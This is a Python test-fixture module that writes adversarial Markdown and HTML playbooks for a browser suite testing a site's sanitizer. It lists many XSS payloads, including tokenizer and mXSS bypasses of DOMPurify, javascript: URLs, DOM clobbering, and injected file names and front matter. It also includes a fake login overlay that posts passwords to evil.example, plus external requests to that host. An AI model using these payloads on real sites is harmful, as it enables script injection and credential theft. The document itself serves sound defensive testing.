"""Adversarial playbooks: one per attack class, written into a copy of the minimal fixture.

Every payload calls alert(), loads something from evil.example, or tries to cover the
page; the browser suite fails on any dialog, any request to another host, any
contributor element with fixed/absolute position and any id the theme or scripts use.
Sources: the HTML5 tokenizer/tree-construction spec (raw-text, RCDATA and comment
states, foreign content), the published mXSS bypasses of DOMPurify 2.0.x/2.2.x
(namespace confusion through <math><mtext><mglyph>, <svg></p>), and DOM clobbering
(named access on document/window, form-named inputs).
"""

from __future__ import annotations

import shutil
from pathlib import Path

FIXTURE = Path(__file__).resolve().parent.parent / "fixtures" / "minimal"
BASE = "sales-email"

# slug -> Markdown appended to workflow.md (one playbook per class)
WORKFLOW: dict[str, str] = {
    "raw-text": """
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>

<xmp><p title="</xmp><img src=x onerror=alert('xmp')>"></xmp>

<noembed><p title="</noembed><img src=x onerror=alert('noembed')>"></noembed>

<noframes><p title="</noframes><img src=x onerror=alert('noframes')>"></noframes>

<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe>

<title><p title="</title><img src=x onerror=alert('title')>"></title>

<textarea><p title="</textarea><img src=x onerror=alert('textarea')>"></textarea>

<style><p title="</style><img src=x onerror=alert('style')>"></style>

<script>alert('script')</script>
""",
    "comments": """
<!--><img src=x onerror=alert('comment-1')>-->

<!--!><img src=x onerror=alert('comment-2')>-->

a <!-- b --!><img src=x onerror=alert('comment-3')>

<!--<!--><img src=x onerror=alert('comment-4')>-->

<? ><img src=x onerror=alert('pi')> ?>

<![CDATA[><img src=x onerror=alert('cdata-html')>]]>
""",
    "foreign-content": """
<svg><![CDATA[><img src=x onerror=alert('cdata-svg')>]]></svg>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss-1')&gt;">

<svg></p><style><a id="</style><img src=1 onerror=alert('mxss-2')>">

<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert('mxss-3') src=1>">

<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('mxss-4')>

<svg><animate onbegin=alert('svg-animate') attributeName=x dur=1s>

<math><a xlink:href="javascript:alert('math-href')">x</a></math>
""",
    "attribute-lists": """
[x](https://example.com){ onclick="alert('attr-onclick')" }

段落です。
{ style="position:fixed;inset:0;z-index:9999;background:#fff" }

![図](diagram.png){ onerror="alert('attr-onerror')" src="x" }

[y](#top){ href="javascript:alert('attr-href')" }

## 見出し { #__config }

!!! note md-dialog md-dialog--active
    偽のダイアログ

[z](index.md){: .md-dialog .md-dialog--active tabindex="1" autofocus onfocus="alert('autofocus')" }
""",
    "script-urls": """
[a](javascript:alert('js-1'))

[b](jav&#x61;script&colon;alert('js-2'))

[c](JaVaScRiPt:alert('js-3'))

<a href="&#106;avascript:alert('js-4')">d</a>

<a href=" &#x09;java&#x0A;script:alert('js-5')">e</a>

[f](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)

[g](vbscript:msgbox('vbs'))

[h]: javascript:alert('js-ref')

[h][h] and <javascript:alert('autolink')>

<a href="javascript&#58;alert('js-6')">i</a>
""",
    "clobbering": """
## __config

<div id="__config">{"base": "https://evil.example/"}</div>

<form id="__config"><input name="textContent" value='{"base":"https://evil.example/"}'></form>

<img name="currentScript" src="x.png">

<a id="currentScript" href="https://evil.example/mermaid.min.js">cs</a>

<div id="mermaid"></div><div id="mermaid"></div>

<form name="body"></form><img name="head"><img name="createElement"><img name="querySelector">

<a id="location" href="https://evil.example/">loc</a>

<a name="document$">doc</a>

<input name="readyState">

<label for="__search">search</label>

## 末尾の見出し

古いリンク #末尾の見出し でここに来る。
""",
    "overlay": """
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">
ログインし直してください
<form action="https://evil.example/login" method="post">
<input type="password" name="password"><button>ログイン</button>
</form>
</div>

<p class="md-dialog md-dialog--active md-header">偽の通知</p>

<span title="<img src=x onerror=alert('tooltip')>">ヒント</span>

<abbr title="<img src=x onerror=alert('tooltip-2')>">AI</abbr>

<dialog open>ダイアログ</dialog>

<details open ontoggle="alert('toggle')"><summary>s</summary>x</details>
""",
    "external": """
![追跡](https://evil.example/track.png)

<img src="//evil.example/protocol-relative.png">

<img srcset="https://evil.example/srcset.png 1x" src="a.png">

<video src="https://evil.example/v.mp4" autoplay></video>

<audio src="https://evil.example/a.mp3" autoplay></audio>

<link rel="stylesheet" href="https://evil.example/x.css">

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<object data="https://evil.example/x.pdf"></object>

<embed src="https://evil.example/x.swf">

<input type="image" src="https://evil.example/input.png">

<a href="https://example.com/" ping="https://evil.example/ping">外部リンクは使える</a>

<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>

```mermaid
flowchart LR
  A["<img src='https://evil.example/m.png' onerror=alert('mermaid-label')>"] --> B
  click A call alert('mermaid-click')
  click B "javascript:alert('mermaid-link')"
```
""",
}

# slug -> {file name inside the playbook: content}
FILES: dict[str, dict[str, str]] = {
    "file-names": {
        "samples/a\"b.txt": "引用符\n",
        "samples/x' onmouseover='alert(1).txt": "引用符\n",
        "samples/<img src=x onerror=alert('fn')>.txt": "山括弧\n",
        "samples/REPORT.MD": "# 大文字\n\n<script>alert('upper-md')</script>\n",
        "samples/Mail.md": "# 大文字違い\n\n本文です。\n",
        "samples/\u30cf\u3099ック.txt": "NFD\n",
        "samples/invoice\u202etxt.exe.txt": "双方向制御文字\n",
        "samples/evil.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n",
        "samples/evil.html": "<script>alert('html-file')</script>\n",
        "samples/#frag?.txt": "URL の記号\n",
    },
}

# slug -> the first line of workflow.md: the engine shows a part's leading <h1> above its
# own summary and nav, so the title line must stay as sanitized as the rest
TITLE_LINE = {
    "title-line": "# 業務フロー <img src=x onerror=alert('h1')> [a](javascript:alert('h1-link'))"
                  " <!--/kb:contributor--><img src=x onerror=alert('h1-marker')> { #__config }",
}

FRONT = {  # slug -> replacements in index.md: front matter is text, never markup
    "front-matter": [
        ("title: 商談メモから提案メールの下書き",
         "title: <img src=x onerror=alert('fm-title')>提案</title><script>alert(1)</script>"),
        ("summary: 商談メモを貼るだけで", "summary: <svg onload=alert('fm-summary')> 商談メモを"),
        ("champion: 山田 太郎", "champion: \"<a href=javascript:alert('fm-champion')>山田</a>\""),
        ("tools: [ChatGPT, Microsoft Copilot]",
         "tools: [\"<img src=x onerror=alert('fm-tool')>\", \"a' onmouseover='alert(1)\"]"),
    ],
}


def write_adversarial(root: Path, taxonomy: bool = True) -> list[str]:
    """One playbook per class under root/playbooks; the slugs written. `taxonomy`: also
    write the fixture's taxonomy (False keeps the repository's own, as the benchmark does:
    the adversarial playbooks use its `sales` and `email`)."""
    playbooks = root / "playbooks"
    playbooks.mkdir(parents=True, exist_ok=True)
    if taxonomy:
        shutil.copy(FIXTURE / "playbooks" / "taxonomy.yml", playbooks / "taxonomy.yml")
    slugs = sorted({*WORKFLOW, *FILES, *FRONT, *TITLE_LINE})
    for slug in slugs:
        target = playbooks / slug
        shutil.copytree(FIXTURE / "playbooks" / BASE, target)
        workflow = target / "workflow.md"
        text = workflow.read_text(encoding="utf-8")
        if slug in TITLE_LINE:
            text = TITLE_LINE[slug] + text[text.index("\n"):]
        workflow.write_text(text + WORKFLOW.get(slug, ""), encoding="utf-8")
        for name, text in FILES.get(slug, {}).items():
            (target / name).write_text(text, encoding="utf-8")
        index = target / "index.md"
        text = index.read_text(encoding="utf-8")
        for old, new in FRONT.get(slug, []):
            assert old in text, old
            text = text.replace(old, new)
        index.write_text(text.replace("title: 商談メモ", f"title: {slug} 商談メモ"),
                         encoding="utf-8")
    return slugs
